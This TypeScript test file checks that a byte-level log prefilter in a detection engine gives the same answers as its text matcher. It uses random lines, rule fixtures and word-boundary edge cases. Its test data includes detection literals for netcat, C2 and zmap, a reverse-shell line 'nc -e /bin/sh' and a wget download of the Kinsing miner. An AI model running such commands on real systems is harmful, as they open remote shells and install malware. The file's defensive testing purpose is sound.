// The byte form of the log prefilter against the text form it stands in for: on random lines near
// the rules (with invalid UTF-8, other whitespace, case changes and word edges mixed in), on every
// rule fixture, and at the edges of the text, the bytes give exactly the text's answer; and a line
// the bytes rule out is one the log rules find nothing in.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ByteGate } from '../../../src/core/detections/byteGate.js';
import { contentHits, LOG_LITERALS, logLineMayHit } from '../../../src/core/detections/contentRules.js';
import { LiteralMatcher } from '../../../src/core/detections/literalIndex.js';
import { TEXT_END, TEXT_START, WORD_BOUNDARY } from '../../../src/core/detections/requiredLiterals.js';
import { CONTENT_CASES } from './contentCases.js';
import { randomLine } from './gateLines.js';
import { mulberry32 as rng } from '../../support/random.js';

/** Bytes that are not valid UTF-8 on their own, or cut characters (a lead byte, half of U+2028). */
const ODD_BYTES = [[0xff], [0xc2], [0xe2, 0x80], [0x80], [0xf0, 0x9f], [0xc3, 0x28]];

function randomBytes(r: () => number): Buffer {
  const parts: Buffer[] = [];
  const n = 1 + Math.floor(r() * 4);
  for (let i = 0; i < n; i++) {
    parts.push(Buffer.from(randomLine(r), 'utf8'));
    if (r() < 0.3) parts.push(Buffer.from(ODD_BYTES[Math.floor(r() * ODD_BYTES.length)]!));
  }
  const all = Buffer.concat(parts);
  // Every other line is a short cut of it (a literal cut at either end): fewer hold a literal.
  if (r() < 0.5) return all;
  const from = Math.floor(r() * all.length);
  return all.subarray(from, from + 1 + Math.floor(r() * 12));
}

/** The gate's answer on `line` when it sits inside other bytes (the gate reads only [start, end)). */
function inContext(gate: ByteGate, line: Buffer): boolean {
  const framed = Buffer.concat([Buffer.from('ab_c'), line, Buffer.from('x_Y')]);
  return gate.test(framed, 4, 4 + line.length);
}

test('random lines near the rules, with invalid UTF-8 mixed in: the bytes answer exactly what the decoded text does', () => {
  const gate = ByteGate.of(LOG_LITERALS)!;
  const text = new LiteralMatcher(LOG_LITERALS);
  let passed = 0;
  for (let seed = 1; seed <= 20000; seed++) {
    const bytes = randomBytes(rng(seed));
    const want = text.test(bytes.toString('utf8'));
    assert.equal(inContext(gate, bytes), want, `seed ${seed}: ${JSON.stringify(bytes.toString('latin1')).slice(0, 300)}`);
    if (want) passed++;
  }
  // Both answers are exercised: the lines are near the literals on purpose.
  assert.ok(passed > 2000 && passed < 19000, `${passed} of 20000 lines passed`);
});

test('every rule fixture, firing and near miss, in upper and lower case: the same answer as the text', () => {
  const gate = ByteGate.of(LOG_LITERALS)!;
  const text = new LiteralMatcher(LOG_LITERALS);
  for (const [rule, , fires, miss] of CONTENT_CASES) {
    for (const s of [fires, miss, fires.toUpperCase(), miss.toUpperCase()]) assert.equal(inContext(gate, Buffer.from(s)), text.test(s), `${rule}: ${s}`);
  }
});

test('text start, text end and word boundaries are taken at the edges of the given range, not of the buffer', () => {
  const gate = ByteGate.of([`${TEXT_START}nc `, `${WORD_BOUNDARY}c2`, `zmap${WORD_BOUNDARY}`, `tail${TEXT_END}`])!;
  const at = (s: string, before = '', after = '') => gate.test(Buffer.from(before + s + after), before.length, before.length + Buffer.byteLength(s));
  assert.equal(at('nc -e /bin/sh'), true);
  assert.equal(at('nc -e /bin/sh', 'x'), true, 'the text starts where the range does');
  assert.equal(at('sync done'), false, '"nc " not at the text start');
  assert.equal(at('the c2 host'), true);
  assert.equal(at('c2 host', 'abc'), true, 'nothing before the range: a word boundary');
  assert.equal(at('abc2 host'), false);
  assert.equal(at('ran zmap'), true);
  assert.equal(at('ran zmap', '', 'x'), true, 'nothing after the range: a word boundary');
  assert.equal(at('ran zmapper'), false);
  assert.equal(at('the TAIL'), true);
  assert.equal(at('the tail end'), false);
  assert.equal(at('the tail', '', ' end'), true, 'the text ends where the range does');
  assert.equal(at('ZMAP\u00e9'), true, 'a non-ASCII character after is not a word character');
});

test('whitespace the literals do not model (U+2028, NBSP, CR) lets a line through, as it does the text prefilter', () => {
  const gate = ByteGate.of([`${WORD_BOUNDARY}c2`])!;
  for (const ws of ['\u2028', '\u00a0', '\r', '\u3000', '\ufeff']) assert.equal(gate.test(Buffer.from(`plain${ws}text`), 0, Buffer.byteLength(`plain${ws}text`)), true, JSON.stringify(ws));
  assert.equal(gate.test(Buffer.from([0x61, 0xe2, 0x80, 0x61]), 0, 4), false, 'half of U+2028 is not U+2028');
});

test('a literal the bytes cannot answer for (not ASCII) gives no byte gate at all', () => {
  assert.equal(ByteGate.of(['caf\u00e9']), null);
});

test('a log line the bytes rule out is one the log rules find nothing in; one they let through is screened as text', () => {
  for (let seed = 1; seed <= 5000; seed++) {
    const bytes = randomBytes(rng(seed));
    if (!logLineMayHit(bytes, 0, bytes.length)) assert.deepEqual(contentHits('log', bytes.toString('utf8')), [], `seed ${seed}`);
  }
  const hit = Buffer.from('wget http://203.0.113.7/kinsing -O /tmp/kinsing');
  assert.equal(logLineMayHit(hit, 0, hit.length), true);
  // Past the rules' 16 KiB bound the bytes cannot tell where the rules stop reading: the line is let through.
  const long = Buffer.alloc(20 * 1024, 'q');
  assert.equal(logLineMayHit(long, 0, long.length), true);
  assert.equal(logLineMayHit(long, 0, 1024), false);
});
